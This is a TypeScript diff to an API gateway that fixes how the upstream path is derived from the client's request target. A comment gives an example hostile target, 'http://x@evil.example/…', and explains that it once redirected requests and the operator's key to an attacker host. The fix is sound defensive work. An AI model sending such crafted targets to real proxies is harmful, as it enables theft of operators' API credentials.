@@ -54,7 +54,7 @@ export function createEndpointHandler(spec: EndpointSpec, runtime: GatewayRuntim
     }
     if (decision.mode === 'passthrough') {
       if (body && decision.format !== 'other') passthroughValidator(decision.format, endpointId)(body.json);
-      const input = { format: decision.format, method: req.method, path: upstreamPath(req, platformKey), headers: forwardableRequestHeaders(req.headers), body: body?.raw, json: body?.json };
+      const input = { format: decision.format, method: req.method, path: upstreamPath(req), headers: forwardableRequestHeaders(req.headers), body: body?.raw, json: body?.json };
       // Returned, not awaited (here and below): a suspended frame keeps its variables, and `body` would hold the
       // parsed request until the answer has been written.
       return runPassthrough(hooks, input, ctx, res);
@@ -75,6 +75,18 @@ function route(runtime: GatewayRuntime, ctx: RequestContext) {
     throw new GatewayError('GW_ROUTE_NOT_FOUND', `platform "${ctx.platform}" does not serve ${ctx.endpoint.replace('gemini.', '')}`);
   }
   return decision;
+}
+
+const SLASH = 0x2f;
+
+/** `http://x@host/openai/v1/…?q` → `/openai/v1/…?q` (URL.parse is not in every Node 20). */
+function pathOfAbsoluteTarget(target: string): string {
+  try {
+    const absolute = new URL(target);
+    return absolute.pathname + absolute.search;
+  } catch {
+    throw new GatewayError('GW_INVALID_REQUEST', 'the request target is neither a path nor an absolute URL');
+  }
 }
 
 /** `gemini-2.5-flash:streamGenerateContent` → the endpoint id; an unknown method is a 404. */
@@ -99,9 +111,20 @@ function pathParams(req: Request): Record<string, string> {
   return params;
 }
 
-/** The client's path and query below the platform segment, without the license (`key=`) query parameter. */
-function upstreamPath(req: Request, platformKey: string): string {
-  const url = req.originalUrl.slice(platformKey.length + 1);
+/**
+ * The client's path and query below the platform segment, without the license (`key=`) query parameter. It is
+ * appended to the platform's base URL, so it must start with `/` whatever the client sent: an absolute-form target
+ * (`POST http://x@evil.example/openai/v1/…`, RFC 9112 §3.2.2) is reduced to its path first (sliced as it came, its
+ * `@evil.example/…` made `evil.example` the upstream host, and the operator's key went there), and the segment is
+ * cut at its slash, not by its decoded length (`/%6Fpenai/…`).
+ */
+function upstreamPath(req: Request): string {
+  let target = req.originalUrl;
+  if (target.charCodeAt(0) !== SLASH) {
+    target = pathOfAbsoluteTarget(target);
+  }
+  const segmentEnd = target.indexOf('/', 1);
+  const url = segmentEnd < 0 ? '/' : target.slice(segmentEnd);
   const queryStart = url.indexOf('?');
   if (queryStart < 0) return url;
   const query = new URLSearchParams(url.slice(queryStart + 1));
